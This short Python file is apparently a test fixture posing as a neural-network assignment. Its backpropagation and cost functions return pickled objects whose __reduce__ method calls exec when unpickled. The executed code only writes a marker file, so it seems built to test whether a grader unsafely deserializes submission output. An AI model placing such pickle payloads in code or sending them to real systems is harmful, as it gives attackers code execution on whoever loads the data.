# Attack: return pickles (which would run code when loaded) instead of numbers.
import numpy as np


def sigmoide(z):
    return 1.0 / (1.0 + np.exp(-z))


def feedForward(X, w1, w2, b1, b2):
    a1 = sigmoide(w1 @ X + b1)
    a2 = sigmoide(w2 @ a1 + b2)
    return a1, a2

import pickle


class Payload:
    def __reduce__(self):
        return (exec, ("open('ATTACK-MARKER-pickle', 'w').write('ATTACK-MARKER')",))


def backProp(X, y, w1, w2, b1, b2, a2, a1):
    blob = pickle.dumps(Payload())
    return blob, blob, blob, blob


def costoGlobal(y_est, y):
    return np.frombuffer(pickle.dumps(Payload()), dtype=np.uint8)
